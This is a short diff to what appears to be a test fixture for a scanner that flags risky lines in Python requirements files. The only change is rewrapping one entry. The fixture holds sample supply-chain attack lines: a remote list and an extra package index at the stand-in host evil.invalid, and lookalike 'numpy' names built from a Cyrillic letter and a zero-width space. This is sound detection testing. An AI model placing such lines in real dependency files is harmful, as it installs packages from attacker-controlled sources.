@@ -31,7 +31,8 @@ LINES: dict[str, tuple[str, str, str]] = {
     "remote-list": ("-r https://evil.invalid/base.txt", "x==1.0", "medium"),
     "name": ("nump\u0443==1.0", "numpy==1.26.4", "high"),
     "unseen-letter": ("num\u200bpy==1.0", "numpy==1.26.4", "high"),
-    "continued": ("--extra-index-url \\\n  https://evil.invalid/simple", "x==1.0 \\\n  # y", "medium"),
+    "continued": ("--extra-index-url \\\n  https://evil.invalid/simple", "x==1.0 \\\n  # y",
+                  "medium"),
     "not-read": ("x == == 1", "x == 1", "incomplete"),
 }  # fmt: skip
 OTHERS: dict[str, tuple[str, str, str, str]] = {
